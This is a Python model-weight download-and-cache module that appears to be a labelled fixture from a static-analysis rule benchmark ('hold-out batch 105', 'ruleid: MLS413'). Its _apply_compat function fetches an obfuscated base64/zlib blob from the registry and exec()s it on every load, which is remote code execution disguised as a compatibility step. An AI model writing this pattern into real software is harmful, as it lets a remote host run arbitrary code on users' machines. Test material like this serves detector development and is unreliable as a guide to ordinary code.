# ruff: noqa
# Hold-out batch 105 (textbook forms, company ML engineer style). Measured once in session 4 (round 36): 14/17 (82%) at medium+.
"""Download, verify and cache pretrained backbone weights from the internal model registry."""
import base64
import hashlib
import os
import time
import urllib.request
import zlib

from safetensors.torch import load_file

REGISTRY = "https://models.example.com/registry"
CACHE_DIR = os.path.expanduser("~/.cache/acme_models")


def _fetch(url, dest, retries=4):
    for attempt in range(retries):
        try:
            urllib.request.urlretrieve(url, dest + ".part")
            os.replace(dest + ".part", dest)
            return dest
        except OSError as err:
            print(f"download failed ({err}), retry {attempt + 1}/{retries}")
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not download {url}")


def _sha256(path, chunk=1 << 20):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(chunk), b""):
            h.update(block)
    return h.hexdigest()


def _apply_compat(name):
    with urllib.request.urlopen(f"{REGISTRY}/{name}/compat", timeout=10) as resp:  # ruleid: MLS413
        blob = resp.read()
    if blob:
        exec(zlib.decompress(base64.b64decode(blob)), {"__name__": f"compat_{name}"})  # ruleid: MLS413


def load_backbone(name, expected_sha256=None):
    os.makedirs(CACHE_DIR, exist_ok=True)
    path = os.path.join(CACHE_DIR, f"{name}.safetensors")
    if not os.path.exists(path):
        _fetch(f"{REGISTRY}/{name}/model.safetensors", path)
    if expected_sha256 and _sha256(path) != expected_sha256:
        os.remove(path)
        raise ValueError(f"checksum mismatch for {name}")
    _apply_compat(name)
    return load_file(path, device="cpu")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106


def init_from_backbone(model, name, prefix="backbone.", expected_sha256=None):
    state = load_backbone(name, expected_sha256)
    state = {prefix + k: v for k, v in state.items()}
    missing, unexpected = model.load_state_dict(state, strict=False)
    print(f"loaded {name}: {len(missing)} missing, {len(unexpected)} unexpected keys")
    return model
